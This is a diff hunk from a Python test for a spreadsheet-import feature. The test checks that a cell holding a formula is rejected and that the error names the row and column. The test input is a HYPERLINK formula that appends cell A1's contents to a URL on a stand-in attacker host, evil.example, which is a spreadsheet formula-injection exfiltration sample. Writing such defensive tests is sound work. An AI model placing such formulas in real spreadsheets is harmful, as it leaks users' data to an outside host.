@@ -317,7 +317,7 @@ def test_a_hyperlink_formula_in_a_cell(client, signed_in_admin):
     rows = [row("A-1"), row("A-2", title='=HYPERLINK("http://evil.example/?"&A1,"Открыть")')]
     ident, page = preview(client, xlsx_bytes(rows))
     assert batch(ident).error_count == 1
-    assert "row 3" in page.lower() or "3 C" in page
+    assert "row 3" in page.lower() or "3 A-2 C" in page  # row, requirement code, column
     assert "A spreadsheet formula, not a value" in page
     assert register() == before
 
